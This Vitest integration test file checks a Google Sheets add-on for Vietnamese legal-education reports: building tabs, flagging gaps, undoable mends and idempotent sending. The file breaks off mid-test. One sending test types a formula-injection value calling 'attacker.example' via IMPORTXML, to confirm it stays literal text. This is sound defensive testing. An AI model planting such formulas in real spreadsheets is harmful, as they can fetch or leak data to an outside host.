// The bundle that is pushed, on the fake spreadsheet, against the real worker.

import { describe, expect, test } from "vitest";
import type { Answer } from "../../addon/contract/answer.ts";
import { TONES } from "../../shared/look.ts";
import type { Form, LastValue } from "../../shared/report/form.ts";
import type { Mend } from "../../shared/report/mends.ts";
import type { TableId } from "../../shared/report/report.ts";
import { formOf, goodReport } from "../shared/golden.ts";
import { type Harness, startEnvironment } from "./environment.ts";
import { readSheet, readTables, type SheetReader, TABS, typeReport } from "./sheet-reader.ts";

const PERIOD = "kh-6134-2021";
const TAB = TABS.duties;
const FINANCE = "bao-cao-so-tai-chinh";
const REVIEWER = "tong-hop-1";

const environment = startEnvironment();

function value<T>(answer: Answer<T>): T {
  if (!answer.ok) throw new Error(`${answer.problem.code}: ${answer.problem.detail}`);
  return answer.value;
}

function problem<T>(answer: Answer<T>): string {
  return answer.ok ? "none" : answer.problem.code;
}

/** Value and formula of a cell. */
function held({ fake }: Harness, tab: string, row: number, column: number): unknown[] {
  const content = fake.spreadsheet
    .sheets()
    .find((each) => each.name() === tab)
    ?.content({ row, column });
  return [content?.value, content?.formula];
}

function tabOf({ fake }: Harness, name: string) {
  const tab = fake.spreadsheet.sheets().find((each) => each.name() === name);
  if (!tab) throw new Error(`no tab ${name}`);
  return tab;
}

/** Every text that a tab holds, sorted. */
function textsIn(harness: Harness, name: string): string[] {
  const tab = tabOf(harness, name);
  const texts: string[] = [];
  for (let row = 1; row <= 60; row++) {
    for (let column = 1; column <= tab.columns(); column++) {
      const text = String(tab.content({ row, column }).value ?? "");
      if (text !== "") texts.push(text);
    }
  }
  return texts.sort();
}

/** Types a good answer into every row of every table. */
function fillIn(harness: Harness, agency: string): void {
  typeReport(harness, goodReport(formOf(agency)));
}

/** The keys of the duties table, rows for the agency's own work last. */
function dutyKeys({ tables }: Form): string[] {
  return [...tables.duties.rows.map(({ key }) => key), ...tables.duties.own];
}

/** Deletes a table's tab as a person does, who then looks at another. */
function removeTab(harness: Harness, table: TableId): void {
  value(harness.addon.jumpTo(null, { table: table === "duties" ? "assessment" : "duties" }));
  harness.fake.spreadsheet.remove(tabOf(harness, TABS[table]));
}

async function withSheet(personId: string): Promise<{ harness: Harness; sheet: SheetReader }> {
  const harness = await environment.openHarness(personId);
  value(harness.addon.buildSheet(PERIOD));
  return { harness, sheet: readSheet(harness, TAB) };
}

test("opening a file builds the menu and touches nothing else", async () => {
  const { fake, addon } = await environment.openHarness(FINANCE);
  addon.onOpen();
  expect(fake.ui.menus).toEqual([
    {
      caption: "Tiện ích",
      items: [
        { caption: "Mở thanh bên", functionName: "openSidebar" },
        null,
        { caption: "Kiểm tra biểu mẫu", functionName: "checkFromMenu" },
        null,
        { caption: "Tự kiểm tra…", functionName: "selfCheck" },
      ],
    },
  ]);
  expect(fake.requests).toEqual([]);
  addon.openSidebar();
  expect(fake.ui.sidebar?.title).toBe("Báo cáo PBGDPL");
  expect(fake.ui.sidebar?.html).toContain("<html");
});

describe("building", () => {
  test("the sheet has exactly the agency's rows, by key, and every cell to be filled is text with its choices", async () => {
    const { harness, sheet } = await withSheet(FINANCE);
    const form = formOf("so-tai-chinh");
    expect(sheet.keys()).toEqual(dutyKeys(form));
    const tab = harness.fake.spreadsheet.sheets().find((each) => each.name() === TAB);
    const at = (column: "status" | "evidence") => tab?.cell(sheet.rowOf("II.4.c"), sheet.columnOf(column));
    expect(at("status")?.rule?.values).toEqual([
      "Chưa thực hiện",
      "Đang thực hiện",
      "Đã thực hiện",
      "Không phát sinh",
    ]);
    expect(at("evidence")?.style).toMatchObject({
      numberFormat: "@",
      fontFamily: "Times New Roman",
      fontSize: 12,
      wrap: "WRAP",
    });
    expect(tab?.look.frozen).toEqual({ rows: 4, columns: 2 });
    expect(tab?.look.columns.get(sheet.columnOf("key"))?.hidden).toBe(true);
    expect(tab?.extras().protections.every(({ warningOnly }) => warningOnly)).toBe(true);
    expect(tab?.extras().protections.length).toBeGreaterThan(0);
  });

  test("what is typed stays as it was typed: no date, number or formula is made of it", async () => {
    const { harness, sheet } = await withSheet(FINANCE);
    const typed = {
      result: "=1+1",
      completed: "12/2020",
      difficulty: "1.234",
      proposal: "5/11/2026",
    } as const;
    for (const [column, text] of Object.entries(typed)) sheet.type("II.4.c", column as "result", text);
    expect(held(harness, TAB, sheet.rowOf("II.4.c"), sheet.columnOf("result"))).toEqual(["=1+1", null]);
    for (const [column, text] of Object.entries(typed)) {
      expect(sheet.text("II.4.c", column as "result")).toBe(text);
    }
  });

  test("rebuilding keeps what was typed and puts aside what belongs to no row", async () => {
    const { harness, sheet } = await withSheet(FINANCE);
    sheet.type("II.4.c", "result", "Đã rà soát");
    const free = sheet.rowOf(sheet.keys().at(-1) ?? "") + 1;
    harness.fake.type(TAB, free, sheet.columnOf("result"), "Nội dung lạc dòng");
    value(harness.addon.buildSheet(PERIOD));
    const rebuilt = readSheet(harness, TAB);
    expect(rebuilt.text("II.4.c", "result")).toBe("Đã rà soát");
    expect(rebuilt.keys()).toEqual(sheet.keys());
    const removed = harness.fake.spreadsheet.sheets().find((each) => each.name() === "Đã gỡ");
    expect([1, 2, 3, 4, 5].map((column) => removed?.content({ row: 4, column }).value ?? null)).toEqual([
      "10/12/2021",
      "Nhiệm vụ",
      null,
      "Kết quả thực hiện / lý do không phát sinh",
      "Nội dung lạc dòng",
    ]);
  });

  const DAMAGES: [string, (harness: Harness, sheet: SheetReader) => void][] = [
    [
      "the key column was deleted",
      (harness, sheet) => tabOf(harness, TAB).deleteColumns(sheet.columnOf("key"), 1),
    ],
    [
      "a column to be filled was renamed",
      (harness, sheet) => harness.fake.type(TAB, 4, sheet.columnOf("proposal"), "Kiến nghị khác"),
    ],
    [
      "a person wrote beside the table",
      (harness, sheet) => harness.fake.type(TAB, 8, sheet.columnOf("check") + 2, "Ghi chú riêng"),
    ],
  ];
  test.each(DAMAGES)("where %s, the old tab stays whole beside the new one", async (_, damage) => {
    const { harness, sheet } = await withSheet(FINANCE);
    sheet.type("II.4.c", "proposal", "Nội dung quý");
    damage(harness, sheet);
    const before = textsIn(harness, TAB);
    expect(value(harness.addon.buildSheet(PERIOD)).notes).toEqual([
      `Trang tính cũ được giữ nguyên ở “${TAB} (bản cũ)”.`,
    ]);
    expect(textsIn(harness, `${TAB} (bản cũ)`)).toEqual(before);
    expect(before).toContain("Nội dung quý");
    expect(readSheet(harness, TAB).keys()).toEqual(dutyKeys(formOf("so-tai-chinh")));
  });

  test("where the kept form is damaged or gone, building again keeps what was typed", async () => {
    const { harness, sheet } = await withSheet(FINANCE);
    sheet.type("II.4.c", "result", "Nội dung quý");
    const hidden = `_bieu_mau ${PERIOD}`;
    expect(tabOf(harness, hidden).hidden()).toBe(true);
    harness.fake.type(hidden, 1, 1, "hỏng");
    expect(problem(harness.addon.checkSheet(null))).toBe("form_changed");
    value(harness.addon.buildSheet(PERIOD));
    expect(readSheet(harness, TAB).text("II.4.c", "result")).toBe("Nội dung quý");
    expect(problem(harness.addon.checkSheet(null))).toBe("none");
  });

  test("dates that the spreadsheet made stay the same day in a file of any zone and language", async () => {
    for (const options of [{ timeZone: "America/Los_Angeles" }, { locale: "en_US" }]) {
      const harness = await environment.openHarness(FINANCE, options);
      value(harness.addon.buildSheet(PERIOD));
      const sheet = readSheet(harness, TAB);
      const tab = tabOf(harness, TAB);
      const at = { row: sheet.rowOf("II.4.c"), column: sheet.columnOf("completed") };
      tab.restyle([{ ...at, style: { numberFormat: "dd/mm/yyyy" } }]);
      tab.write([{ ...at, value: 44505, formula: null }]);
      const before = value(harness.addon.checkSheet(null));
      value(harness.addon.buildSheet(PERIOD));
      expect(tab.content(at).value).toBe(44505);
      expect(value(harness.addon.checkSheet(null)).groups).toEqual(before.groups);
    }
  });

  test("another run at work on the file is waited for, and nothing is written", async () => {
    const { harness, sheet } = await withSheet(FINANCE);
    sheet.type("II.4.c", "result", "Nội dung quý");
    const before = textsIn(harness, TAB);
    harness.fake.lock.taken = true;
    expect(problem(harness.addon.buildSheet(PERIOD))).toBe("locked");
    expect(textsIn(harness, TAB)).toEqual(before);
  });

  test("a renamed tab and moved rows are still found", async () => {
    const { harness, sheet } = await withSheet(FINANCE);
    sheet.type("II.4.c", "status", "Đang thực hiện");
    const tab = harness.fake.spreadsheet.sheets().find((each) => each.name() === TAB);
    tab?.rename("Bảng của tôi");
    tab?.insertRows(sheet.rowOf("II.4.c"), 2);
    const check = value(harness.addon.checkSheet(null));
    expect(check.groups.find(({ row }) => row === "II.4.c")?.items.map(({ rule }) => rule)).toEqual([
      "R-RESULT-MISSING",
    ]);
  });

  test("a reporter gets no sheet for a period that does not exist", async () => {
    const harness = await environment.openHarness(FINANCE);
    expect(problem(harness.addon.buildSheet("kh-6134-1999"))).toBe("period_unknown");
    expect(harness.fake.spreadsheet.sheets().map((each) => each.name())).toEqual(["Trang tính1"]);
  });
});

describe("checking", () => {
  test("flags the cell, its row and the list; a mended cell loses its flag", async () => {
    const { harness, sheet } = await withSheet(FINANCE);
    fillIn(harness, "so-tai-chinh");
    sheet.type("II.4.c", "evidence", "");
    const broken = value(harness.addon.checkSheet(null));
    expect([broken.errors, broken.warnings]).toEqual([1, 0]);
    expect(broken.groups).toEqual([
      {
        table: "duties",
        row: "II.4.c",
        duty: "II.4.c",
        title: expect.stringMatching(/^Rà soát, tham mưu/),
        section: expect.stringMatching(/^II\.4\. Hoàn thiện thể chế/),
        items: [
          {
            severity: "error",
            rule: "R-EVIDENCE-MISSING",
            place: { table: "duties", row: "II.4.c", column: "evidence" },
            todo: "fill",
            message: "Chưa có văn bản minh chứng.",
            hint: expect.stringContaining("Kế hoạch số"),
            column: "Văn bản minh chứng (mỗi văn bản một dòng)",
            mend: null,
            exempted: null,
          },
        ],
      },
    ]);
    expect(sheet.ground("II.4.c", "evidence")).toBe(TONES.bad.ground);
    expect(sheet.ground("II.4.c", "result")).toBe("#ffffff");
    expect(sheet.note("II.4.c", "evidence")).toContain("Chưa có văn bản minh chứng.");
    expect(sheet.text("II.4.c", "check")).toBe("✗ Chưa có văn bản minh chứng.");

    expect(value(harness.addon.jumpTo(null, broken.groups[0]?.items[0]?.place ?? {}))).toBe(null);
    expect(harness.fake.spreadsheet.selected).toEqual({
      sheet: TAB,
      rect: { row: sheet.rowOf("II.4.c"), column: sheet.columnOf("evidence"), rows: 1, columns: 1 },
    });

    sheet.type("II.4.c", "evidence", "Kế hoạch số 12/KH-STC ngày 05/3/2021");
    expect(value(harness.addon.checkSheet(null)).groups).toEqual([]);
    expect(sheet.ground("II.4.c", "evidence")).toBe("#ffffff");
    expect(sheet.note("II.4.c", "evidence")).toBe("");
    expect(sheet.text("II.4.c", "check")).toBe("✓ Đủ thông tin");
  });

  test("works without network", async () => {
    const { harness } = await withSheet(FINANCE);
    value(harness.addon.home());
    harness.intercept(() => {
      throw new Error("DNS error");
    });
    expect(value(harness.addon.checkSheet(null)).errors).toBeGreaterThan(10);
    const home = value(harness.addon.home());
    expect([home.offline?.code, home.me.agency?.id, home.sheet?.head]).toEqual([
      "offline",
      "so-tai-chinh",
      null,
    ]);
  });

  test("makes the same number of service calls however many rows there are", async () => {
    const count = async (person: string) => {
      const { harness } = await withSheet(person);
      harness.fake.calls.reset();
      value(harness.addon.checkSheet(null));
      return harness.fake.calls.total();
    };
    expect(await count(FINANCE)).toBe(await count("bao-cao-hoi-nong-dan"));
  });

  test("a person's own note stays; only notes of a check are replaced", async () => {
    const { harness, sheet } = await withSheet(FINANCE);
    const at = { row: sheet.rowOf("II.4.c"), column: sheet.columnOf("status") };
    tabOf(harness, TAB).setNotes([{ ...at, note: "Hỏi lại phòng ngân sách" }]);
    value(harness.addon.checkSheet(null));
    expect(sheet.note("II.4.c", "status")).toBe("Hỏi lại phòng ngân sách");
    expect(sheet.note("II.9.a", "status")).toContain("Chưa chọn tình trạng thực hiện.");
  });

  test("flags follow their cells where a column was put between", async () => {
    const { harness, sheet } = await withSheet(FINANCE);
    value(harness.addon.checkSheet(null));
    tabOf(harness, TAB).insertColumns(sheet.columnOf("completed"), 1);
    fillIn(harness, "so-tai-chinh");
    sheet.type("II.4.c", "evidence", "");
    value(harness.addon.checkSheet(null));
    expect(sheet.ground("II.4.c", "status")).toBe("#ffffff");
    expect(sheet.ground("II.4.c", "evidence")).toBe(TONES.bad.ground);
    expect(sheet.text("II.4.c", "check")).toBe("✗ Chưa có văn bản minh chứng.");
  });

  test("a renamed column is told by its name, and nothing is checked or sent without it", async () => {
    const { harness, sheet } = await withSheet(FINANCE);
    fillIn(harness, "so-tai-chinh");
    harness.fake.type(TAB, 4, sheet.columnOf("proposal"), "Kiến nghị");
    const before = harness.fake.requests.length;
    for (const answer of [harness.addon.checkSheet(null), harness.addon.sendReport(null)]) {
      expect(answer.ok ? null : [answer.problem.code, answer.problem.detail]).toEqual([
        "columns_lost",
        expect.stringContaining("“Đề xuất, kiến nghị”"),
      ]);
    }
    expect(harness.fake.requests.length).toBe(before);
  });

  test("a lost key column is told, and nothing is written", async () => {
    const { harness, sheet } = await withSheet(FINANCE);
    harness.fake.spreadsheet
      .sheets()
      .find((each) => each.name() === TAB)
      ?.deleteColumns(sheet.columnOf("key"), 1);
    expect(problem(harness.addon.checkSheet(null))).toBe("table_lost");
  });
});

describe("three tables", () => {
  test("an agency gets duties, figures and assessment in tabs of their own, every cell to be filled as text", async () => {
    const { harness } = await withSheet(FINANCE);
    const form = formOf("so-tai-chinh");
    const { figures, assessment } = readTables(harness);
    expect(figures.keys()).toEqual(form.tables.figures.rows.map(({ key }) => key));
    expect(assessment.keys()).toEqual(form.tables.assessment.rows.map(({ key }) => key));
    const cells = [
      tabOf(harness, TABS.figures).cell(figures.rowOf("kinh-phi"), figures.columnOf("total")),
      tabOf(harness, TABS.assessment).cell(assessment.rowOf("causes"), assessment.columnOf("text")),
      tabOf(harness, TAB).cell(
        readSheet(harness, TAB).rowOf("own.1"),
        readSheet(harness, TAB).columnOf("duty"),
      ),
    ];
    for (const cell of cells) {
      expect(cell.style).toMatchObject({
        numberFormat: "@",
        fontFamily: "Times New Roman",
        fontSize: 12,
        wrap: "WRAP",
      });
    }
    const joint = figures.ground("pho-bien-cuoc", "coordinated");
    expect([joint, figures.ground("bao-cao-vien", "coordinated")]).toEqual(["#ffffff", "#e8eaed"]);
  });

  test("an agency without figures gets no tab for them, and its report is checked without", async () => {
    const { harness } = await withSheet("bao-cao-so-tai-chinh");
    const own = formOf("so-tai-chinh");
    const reply = {
      ...own,
      tables: { ...own.tables, figures: { ...own.tables.figures, rows: [], sums: [] } },
    };
    const bare = await environment.openHarness(FINANCE);
    bare.intercept((request, send) => {
      const answer = send();
      if (!request.url.includes("/form?")) return answer;
      return { ...answer, body: JSON.stringify({ ...JSON.parse(answer.body), form: reply }) };
    });
    value(bare.addon.buildSheet(PERIOD));
    const names = (of: Harness) => of.fake.spreadsheet.sheets().map((each) => each.name());
    expect(names(bare)).not.toContain(TABS.figures);
    expect(names(harness)).toContain(TABS.figures);
    typeReport(bare, goodReport(reply));
    const { errors, progress } = value(bare.addon.checkSheet(null));
    expect([errors, progress.tables.map(({ table }) => table)]).toEqual([0, ["duties", "assessment"]]);
  });

  test("last period's values stand beside in the units that people type, with the period in the head", async () => {
    const harness = await environment.openHarness(FINANCE);
    const lastValues = new Map<string, LastValue>([
      ["bao-cao-vien", { value: 1250, periodName: "Năm 2020" }],
      ["pho-bien-cuoc", "unknown"],
      ["kinh-phi", { value: 1234500, periodName: "Năm 2020" }],
    ]);
    const form = formOf("so-tai-chinh", { lastValues });
    harness.intercept((request, send) => {
      const answer = send();
      if (!request.url.includes("/form?")) return answer;
      return { ...answer, body: JSON.stringify({ ...JSON.parse(answer.body), form }) };
    });
    value(harness.addon.buildSheet(PERIOD));
    const sheet = readSheet(harness, TABS.figures, "figures");
    const tab = tabOf(harness, TABS.figures);
    const column = 5;
    expect(tab.content({ row: 4, column }).value).toBe("Kỳ trước (Năm 2020)");
    const shown = ["bao-cao-vien", "pho-bien-cuoc", "kinh-phi", "thi-cuoc"].map(
      (key) => tab.content({ row: sheet.rowOf(key), column }).value,
    );
    expect(shown).toEqual(["1.250", "Không xác định", "1.234,5", "–"]);
    // A head that changed with the form is still the add-on's own: the tab is not put aside for it.
    sheet.type("bao-cao-vien", "total", "12");
    harness.intercept(null);
    expect(value(harness.addon.buildSheet(PERIOD)).notes).toEqual([]);
    expect(readSheet(harness, TABS.figures, "figures").text("bao-cao-vien", "total")).toBe("12");
    expect(tab.content({ row: 4, column }).value).toBe("Kỳ trước");
  });

  test("a fault in each table is flagged in its own tab, listed under its row, and jumped to", async () => {
    const { harness } = await withSheet(FINANCE);
    fillIn(harness, "so-tai-chinh");
    const { duties, figures, assessment } = readTables(harness);
    figures.type("bao-cao-vien", "total", "");
    assessment.type("contact_phone", "text", "");
    duties.type("own.1", "duty", "Tổ chức phiên tòa giả định");
    const check = value(harness.addon.checkSheet(null));
    const errors = check.groups
      .map(({ items, ...group }) => ({
        ...group,
        items: items.filter(({ severity }) => severity === "error"),
      }))
      .filter(({ items }) => items.length > 0);
    expect(errors.map(({ table, duty, section }) => [table, duty, section])).toEqual([
      ["duties", "Khác 1", "Nhiệm vụ khác"],
      ["figures", "1", "Số liệu"],
      ["assessment", "Điện thoại liên hệ", "Đánh giá chung"],
    ]);
    expect(figures.ground("bao-cao-vien", "total")).toBe(TONES.bad.ground);
    expect(assessment.ground("contact_phone", "text")).toBe(TONES.bad.ground);
    expect(duties.ground("own.1", "status")).toBe(TONES.bad.ground);
    expect(figures.text("pho-bien-cuoc", "check")).toBe("✓ Đủ thông tin");
    for (const { items, table } of errors) {
      const place = items[0]?.place ?? {};
      value(harness.addon.jumpTo(null, place));
      const sheet = { duties, figures, assessment }[table ?? "duties"];
      expect(harness.fake.spreadsheet.selected).toEqual({
        sheet: sheet.name,
        rect: {
          row: sheet.rowOf(place.row ?? ""),
          column: sheet.columnOf(place.column ?? "key"),
          rows: 1,
          columns: 1,
        },
      });
    }
    const { progress } = check;
    expect(progress.tables.map(({ table, missing, wrong }) => [table, missing, wrong])).toEqual([
      ["duties", 0, 0],
      ["figures", 1, 0],
      ["assessment", 1, 0],
    ]);
  });

  test.each(["duties", "figures", "assessment"] as const)(
    "a deleted tab of %s is told by its name, and building brings it back and leaves the others",
    async (gone) => {
      const { harness } = await withSheet(FINANCE);
      fillIn(harness, "so-tai-chinh");
      const others = Object.values(TABS).filter((name) => name !== TABS[gone]);
      const before = others.map((name) => textsIn(harness, name));
      removeTab(harness, gone);
      const answer = harness.addon.checkSheet(null);
      expect(answer.ok ? null : [answer.problem.code, answer.problem.title]).toEqual([
        "table_lost",
        `Không tìm thấy trang tính “${TABS[gone].split(" – ")[0]}”`,
      ]);
      expect(problem(harness.addon.jumpTo(null, { table: gone, row: "x" }))).toBe("table_lost");
      expect(value(harness.addon.buildSheet(PERIOD)).notes).toEqual([]);
      expect(readTables(harness)[gone].keys().length).toBeGreaterThan(0);
      expect(others.map((name) => textsIn(harness, name))).toEqual(before);
      expect(problem(harness.addon.checkSheet(null))).toBe("none");
    },
  );

  test("a deleted tab comes back with the cells that were sent last", async () => {
    const harness = await environment.openHarness("bao-cao-ubnd-ba-tri");
    value(harness.addon.buildSheet(PERIOD));
    const before = textsIn(harness, TABS.assessment);
    removeTab(harness, "assessment");
    value(harness.addon.buildSheet(PERIOD));
    expect(textsIn(harness, TABS.assessment)).toEqual(before);
    expect(before.join()).toContain("minh họa");
  });

  test.each(["figures", "assessment"] as const)(
    "where the key column of %s was deleted, that tab alone stays whole beside its new one",
    async (id) => {
      const { harness } = await withSheet(FINANCE);
      fillIn(harness, "so-tai-chinh");
      tabOf(harness, TABS[id]).deleteColumns(1, 1);
      const damaged = harness.addon.checkSheet(null);
      expect(damaged.ok ? null : [damaged.problem.code, damaged.problem.title]).toEqual([
        "table_lost",
        `Không tìm thấy bảng “${TABS[id].split(" – ")[0]}”`,
      ]);
      const before = textsIn(harness, TABS[id]);
      expect(value(harness.addon.buildSheet(PERIOD)).notes).toEqual([
        `Trang tính cũ được giữ nguyên ở “${TABS[id]} (bản cũ)”.`,
      ]);
      expect(textsIn(harness, `${TABS[id]} (bản cũ)`)).toEqual(before);
    },
  );

  test("sorted rows, rows between and a renamed tab change nothing of what is read, and flags go along", async () => {
    const { harness } = await withSheet(FINANCE);
    fillIn(harness, "so-tai-chinh");
    const figures = readSheet(harness, TABS.figures, "figures");
    figures.type("kinh-phi", "total", "");
    const before = value(harness.addon.checkSheet(null));
    const tab = tabOf(harness, TABS.figures);
    const rows = figures.keys().map((key) => figures.rowOf(key));
    const held = rows.map((row) =>
      Array.from({ length: tab.columns() }, (_, at) => ({ ...tab.content({ row, column: at + 1 }) })),
    );
    held.reverse().forEach((cells, at) => {
      tab.write(
        cells.map((cell, column) => ({
          value: cell.value,
          formula: cell.formula,
          row: rows[at] ?? 0,
          column: column + 1,
        })),
      );
    });
    expect(figures.keys()).not.toEqual(formOf("so-tai-chinh").tables.figures.rows.map(({ key }) => key));
    expect(value(harness.addon.checkSheet(null)).groups).toEqual(before.groups);
    expect(figures.ground("kinh-phi", "total")).toBe(TONES.bad.ground);
    tab.insertRows(6, 2);
    tab.rename("Số của tôi");
    expect(value(harness.addon.checkSheet(null)).groups).toEqual(before.groups);
  });

  test("the plan's own words are no typed text, even where a row lost its key; what a person wrote there is kept", async () => {
    const { harness, sheet } = await withSheet(FINANCE);
    fillIn(harness, "so-tai-chinh");
    const row = sheet.rowOf("own.2");
    sheet.type("own.2", "duty", "Việc của cơ quan");
    harness.fake.type(TAB, row, sheet.columnOf("key"), "");
    const lost = value(harness.addon.checkSheet(null)).groups.flatMap(({ items }) =>
      items.map(({ rule }) => rule),
    );
    expect(lost).toContain("R-ROW-UNKNOWN");
    value(harness.addon.buildSheet(PERIOD));
    expect(textsIn(harness, "Đã gỡ")).toContain("Việc của cơ quan");
    const other = readSheet(harness, TAB);
    harness.fake.type(TAB, other.rowOf("own.2"), other.columnOf("key"), "");
    expect(value(harness.addon.checkSheet(null)).groups.map(({ row }) => row)).not.toContain("");
  });
});

describe("mends", () => {
  /** The first mend that a check offers for a cell. */
  function offered(harness: Harness, table: TableId, row: string): Mend {
    const groups = value(harness.addon.checkSheet(null)).groups.filter(
      (one) => one.table === table && one.row === row,
    );
    const mend = groups.flatMap(({ items }) => items.map((item) => item.mend)).find((one) => one !== null);
    if (!mend) throw new Error(`no mend for ${table} ${row}: ${JSON.stringify(groups)}`);
    return mend;
  }

  test("a mend is offered and not applied, is applied on request and undone to the very text", async () => {
    const { harness, sheet } = await withSheet(FINANCE);
    fillIn(harness, "so-tai-chinh");
    const before = "Đã rà soát đầy đủ các văn bản của tỉnh".normalize("NFD");
    sheet.type("II.4.c", "result", before);
    const mend = offered(harness, "duties", "II.4.c");
    expect(sheet.text("II.4.c", "result")).toBe(before);
    expect(mend).toEqual({
      table: "duties",
      key: "II.4.c",
      column: "result",
      before,
      after: before.normalize("NFC"),
    });
    const mended = value(harness.addon.applyMend(null, mend));
    expect(sheet.text("II.4.c", "result")).toBe(before.normalize("NFC"));
    expect(mended.groups.filter(({ row }) => row === "II.4.c")).toEqual([]);
    expect(problem(harness.addon.applyMend(null, mend))).toBe("place_changed");
    value(harness.addon.undoMend(null, mend));
    expect(sheet.text("II.4.c", "result")).toBe(before);
    expect(problem(harness.addon.undoMend(null, mend))).toBe("place_changed");
  });

  test("a date that the spreadsheet made is put in words and comes back as the date it was", async () => {
    const { harness, sheet } = await withSheet(FINANCE);
    const at = { row: sheet.rowOf("II.4.c"), column: sheet.columnOf("completed") };
    tabOf(harness, TAB).restyle([{ ...at, style: { numberFormat: "dd/mm/yyyy" } }]);
    tabOf(harness, TAB).write([{ ...at, value: 44505, formula: null }]);
    const mend: Mend = {
      table: "duties",
      key: "II.4.c",
      column: "completed",
      before: { date: "2021-11-05" },
      after: "05/11/2021",
    };
    value(harness.addon.applyMend(null, mend));
    expect(tabOf(harness, TAB).content(at).value).toBe("05/11/2021");
    value(harness.addon.undoMend(null, mend));
    expect(tabOf(harness, TAB).content(at).value).toBe(44505);
    expect(problem(harness.addon.applyMend(null, { ...mend, before: "2021-11-05" }))).toBe("place_changed");
  });

  test("a number that the spreadsheet holds comes back as the number it was", async () => {
    const { harness } = await withSheet(FINANCE);
    const sheet = readSheet(harness, TABS.figures, "figures");
    const at = { row: sheet.rowOf("kinh-phi"), column: sheet.columnOf("total") };
    tabOf(harness, TABS.figures).restyle([{ ...at, style: { numberFormat: "General" } }]);
    tabOf(harness, TABS.figures).write([{ ...at, value: 1.5, formula: null }]);
    const mend: Mend = { table: "figures", key: "kinh-phi", column: "total", before: 1.5, after: "1,5" };
    value(harness.addon.applyMend(null, mend));
    expect(sheet.text("kinh-phi", "total")).toBe("1,5");
    value(harness.addon.undoMend(null, mend));
    expect(tabOf(harness, TABS.figures).content(at).value).toBe(1.5);
  });

  test("a cell that somebody changed since is left as it is", async () => {
    const { harness, sheet } = await withSheet(FINANCE);
    fillIn(harness, "so-tai-chinh");
    sheet.type("II.4.c", "result", "Đã rà soát".normalize("NFD"));
    const mend = offered(harness, "duties", "II.4.c");
    sheet.type("II.4.c", "result", "Nội dung của đồng nghiệp");
    expect(problem(harness.addon.applyMend(null, mend))).toBe("place_changed");
    expect(problem(harness.addon.undoMend(null, mend))).toBe("place_changed");
    expect(sheet.text("II.4.c", "result")).toBe("Nội dung của đồng nghiệp");
  });

  test("a mend finds its row wherever it moved, and no mend touches a doubled row, a lost one or the form's words", async () => {
    const { harness, sheet } = await withSheet(FINANCE);
    fillIn(harness, "so-tai-chinh");
    sheet.type("II.4.c", "result", "a");
    const mend: Mend = { table: "duties", key: "II.4.c", column: "result", before: "a", after: "=1+1" };
    tabOf(harness, TAB).insertRows(5, 3);
    value(harness.addon.applyMend(null, mend));
    const tab = tabOf(harness, TAB);
    const at = (key: string) => {
      for (let row = 5; row < 80; row++) if (tab.content({ row, column: 1 }).value === key) return row;
      return 0;
    };
    expect(held(harness, TAB, at("II.4.c"), sheet.columnOf("result"))).toEqual(["=1+1", null]);
    const refused: Mend[] = [
      { ...mend, before: "=1+1", key: "II.0" },
      { ...mend, before: "", key: "" },
      { ...mend, table: "figures", before: "=1+1" },
    ];
    expect(refused.map((one) => problem(harness.addon.applyMend(null, one)))).toEqual([
      "place_changed",
      "place_changed",
      "place_changed",
    ]);
    harness.fake.type(TAB, at("II.9.a"), 1, "II.4.c");
    expect(problem(harness.addon.applyMend(null, { ...mend, before: "=1+1", after: "b" }))).toBe(
      "place_changed",
    );
  });
});

test("a finding that Sở Tư pháp exempted says so in the list and in the cell, and does not block", async () => {
  const harness = await environment.openHarness(FINANCE);
  const exemption = { rule: "R-EVIDENCE-MISSING", reason: "Văn bản mật", from: "2021-01-01", to: null };
  const form = formOf("so-tai-chinh", { exemptions: [exemption] });
  harness.intercept((request, send) => {
    const answer = send();
    if (!request.url.includes("/form?")) return answer;
    return { ...answer, body: JSON.stringify({ ...JSON.parse(answer.body), form }) };
  });
  value(harness.addon.buildSheet(PERIOD));
  typeReport(harness, goodReport(form));
  const sheet = readSheet(harness, TAB);
  sheet.type("II.4.c", "evidence", "");
  const check = value(harness.addon.checkSheet(null));
  const [item] = check.groups.flatMap(({ items }) => items).filter(({ rule }) => rule === exemption.rule);
  expect([check.errors, item?.severity, item?.exempted]).toEqual([
    0,
    "info",
    { reason: "Văn bản mật", to: null },
  ]);
  expect(sheet.note("II.4.c", "evidence")).toContain("Đã được Sở Tư pháp miễn: Văn bản mật");
  expect(sheet.text("II.4.c", "check")).toContain("Đã được Sở Tư pháp miễn: Văn bản mật");
});

describe("sending", () => {
  test("with errors nothing leaves the sheet", async () => {
    const { harness } = await withSheet(FINANCE);
    const before = harness.fake.requests.length;
    expect(problem(harness.addon.sendReport(null))).toBe("report_has_errors");
    expect(harness.fake.requests.length).toBe(before);
  });

  test("a lost answer is asked for again under the same key, and nothing is sent twice; then review and pull", async () => {
    const { harness, sheet } = await withSheet("bao-cao-hoi-nong-dan");
    fillIn(harness, "hoi-nong-dan-tinh");
    sheet.type("II.9.a", "difficulty", '=IMPORTXML("https://attacker.example";"//a")');
    expect(value(harness.addon.home()).sheet?.head?.latest).toBe(0);
    harness.intercept((_, send) => {
      send();
      throw new Error("Timeout");
    });
    expect(problem(harness.addon.sendReport(null))).toBe("offline");
    harness.intercept(null);
    const sent = value(harness.addon.sendReport(null));
    expect([sent.version, sent.late, sent.head.rev]).toEqual([1, false, 1]);
    const puts = harness.fake.requests.filter(({ method }) => method.toLowerCase() === "put");
    expect(new Set(puts.map(({ headers }) => headers["Idempotency-Key"])).size).toBe(1);
    expect(value(harness.addon.home()).sheet?.head).toMatchObject({ state: "sent", latest: 1, rev: 1 });

    const review = await environment.openHarness(REVIEWER);
    const agency = "hoi-nong-dan-tinh";
    const line = value(review.addon.listReports(PERIOD)).reports.find((each) => each.agency.id === agency);
    expect(line).toMatchObject({ expected: true, late: false, head: { state: "sent", latest: 1 } });
    const opened = value(review.addon.openReport(PERIOD, agency));
    expect([opened.tabs, opened.version.version, opened.groups]).toEqual([
      [
        "Xem – Hội Nông dân tỉnh",
        "Xem – Hội Nông dân tỉnh (số liệu)",
        "Xem – Hội Nông dân tỉnh (đánh giá chung)",
      ],
      1,
      [],
    ]);
    expect(readSheet(review, opened.tabs[1] ?? "", "figures").text("pho-bien-cuoc", "coordinated")).toBe("5");
    expect(readSheet(review, opened.tabs[2] ?? "", "assessment").text("shortcomings", "text")).toBe(
      "Không có",
    );
    expect(readSheet(review, opened.tabs[0] ?? "").text("II.9.a", "difficulty")).toBe(
      '=IMPORTXML("https://attacker.example";"//a")',
    );
